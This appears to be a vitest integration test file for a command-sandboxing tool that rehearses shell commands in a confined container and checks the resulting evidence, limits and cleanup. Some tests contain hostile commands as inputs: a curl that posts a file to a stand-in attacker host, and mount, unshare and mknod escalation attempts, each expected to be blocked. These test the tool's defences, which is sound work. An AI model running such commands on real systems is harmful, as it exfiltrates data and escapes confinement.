import { existsSync } from 'node:fs';
import { readdir } from 'node:fs/promises';
import type { Execution } from '@drylane/proto/promotion';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CHECKOUT } from '../journey/drylane.ts';
import { engineAt } from '../machine/engine.ts';
import { expectConfined } from './confinement.ts';
import { type NestedWorker, startNested } from './nested.ts';
import { CAPABILITIES } from './rights.ts';

const docker = engineAt();
const SITE = '/srv/site';
const OWNED = '/srv/owned';

let worker: NestedWorker;
beforeAll(async () => {
  worker = await startNested('rehearsal');
  const { status, stderr } = await worker.run([
    'sh',
    '-ec',
    `mkdir ${SITE} ${OWNED}; echo was > ${SITE}/a.txt; echo gone > ${SITE}/b.txt
     echo mine > ${OWNED}/a.txt; chmod 600 ${OWNED}/a.txt; chown -R 1234:4321 ${OWNED}; chmod 2770 ${OWNED}`,
  ]);
  expect([status, stderr]).toEqual([0, '']);
}, 900_000);
afterAll(() => worker?.[Symbol.asyncDispose]());

async function rehearse(command: string, flags: readonly string[], site = SITE) {
  const words = ['--json', '--state', '/var/lib/drylane', ...flags, '--', command];
  const line = ['node', '/checkout/services/cli/bin/drylane.mjs', 'rehearse', ...words];
  const { status, stdout, stderr } = await worker.run(line, site);
  if (stdout === '') throw new Error(`no document: ${stderr}`);
  return { status, ...(JSON.parse(stdout) as Execution) };
}

describe("a worker's container", () => {
  it('has no socket of the host, no privilege, exactly the rights that are listed, and limits', async () => {
    const capabilities = Object.keys(CAPABILITIES);
    expectConfined(await worker.container.inspect(), { capabilities, places: [CHECKOUT], writes: [] });
  });

  it('rehearses a command on its own engine, and tells all of what it did', async () => {
    const command = 'sed -i s/was/is/ a.txt && rm b.txt && grep CapBnd /proc/self/status';
    const run = await rehearse(command, ['--expect', '*.txt']);
    expect([run.status, run.verdict, run.findings]).toEqual([0, 'promote', []]);
    expect(run.evidence).toMatchObject({ complete: true, exit_code: 0, unpromotable: [], outside: [] });
    expect(run.evidence.changes.map(({ path, kind, step }) => [path, kind, step])).toEqual([
      ['a.txt', 'modified', 0],
      ['b.txt', 'deleted', 1],
    ]);
    // Without CAP_SETPCAP, runc would leave it as it is.
    expect(run.evidence.stdout.text).toBe('CapBnd:\t0000000000000000\n');
    expect(run.evidence.fidelity.unobserved.join()).not.toContain('disk');
    expect(run.evidence.resources.cpu_ms).toBeGreaterThan(0);
    expect((await worker.run(['cat', 'a.txt', 'b.txt'], SITE)).stdout).toBe('was\ngone\n');
  });

  it("rehearses as the workspace's owner, keeps its set-group-ID bit, and ends what takes too long", async () => {
    const command = 'stat -c "%a %u %g" . a.txt && sleep 100';
    const run = await rehearse(command, ['--read-only', '--timeout', '3s'], OWNED);
    expect(run).toMatchObject({ verdict: 'inconclusive', evidence: { complete: true, timed_out: true } });
    // Without CAP_KILL, the engine could not end it.
    expect(run.evidence.duration_ms).toBeLessThan(50_000);
    expect(run.evidence.stdout.text).toBe('2770 1234 4321\n600 1234 4321\n');
  }, 60_000);

  it('gives a hostile command no network, and blocks it', async () => {
    const run = await rehearse('curl -m 5 -d @a.txt http://evil.example/x', ['--read-only']);
    expect([run.status, run.verdict]).toEqual([10, 'block']);
    expect(run.findings.map(({ rule }) => rule)).toContain('undeclared-network');
    expect(run.evidence.network).toMatchObject([{ program: 'curl', host: 'evil.example', declared: false }]);
    expect(run.evidence.complete).toBe(true);
  });

  it('gives a hostile command no way up, and sees it try', async () => {
    const run = await rehearse('mount -t tmpfs x /mnt; unshare -r true; mknod x b 8 0; ls /run/drylane', [
      ...['--expect', '**'],
    ]);
    expect(run.verdict).toBe('block');
    expect(run.evidence.privileged.map(({ syscall }) => syscall)).toEqual(
      expect.arrayContaining(['mount', 'unshare']),
    );
    expect(run.evidence.stdout.text).toBe('');
    expect(run.evidence.complete).toBe(true);
  });

  it('counts and limits memory in groups below its own', async () => {
    const run = await rehearse(`python3 -c 'a = b"a" * 2**30'`, ['--read-only', '--memory', '64Mi']);
    expect(run.evidence).toMatchObject({ oom_killed: true, complete: true });
  });
});

describe("the end of a worker's container", () => {
  it('waits until the worker has drained, and leaves nothing', async () => {
    const before = await worker.container.inspect();
    const began = performance.now();
    await worker.container.stop({ t: 30 });
    const { State } = await worker.container.inspect();
    expect([State.ExitCode, State.OOMKilled]).toEqual([0, false]);
    expect(performance.now() - began).toBeLessThan(28_000);
    expect(await worker.logs()).toContain('drained');
    await worker.container.remove({ v: true });
    const { Volumes } = await docker.listVolumes();
    const names = (Volumes ?? []).map(({ Name }) => Name);
    for (const { Name } of before.Mounts) if (Name !== undefined) expect(names).not.toContain(Name);
    expect(await groupsOf(before.Id)).toEqual([]);
  }, 60_000);

  it('is an error when its engine dies', async () => {
    await using lost = await startNested('rehearsal');
    await lost.run(['sh', '-c', 'kill -KILL "$(cat /run/drylane/engine.pid)"']);
    expect(await lost.container.wait()).toEqual({ Error: null, StatusCode: 1 });
    expect(await lost.logs()).toContain('the engine ended before the worker');
  }, 180_000);
});

/** Control groups of a container that are still there. */
async function groupsOf(id: string): Promise<string[]> {
  const root = '/sys/fs/cgroup';
  const places = [root, ...(await readdir(root)).map((name) => `${root}/${name}`)];
  return places
    .flatMap((place) => [`${place}/docker/${id}`, `${place}/system.slice/docker-${id}.scope`])
    .filter((place) => existsSync(place));
}
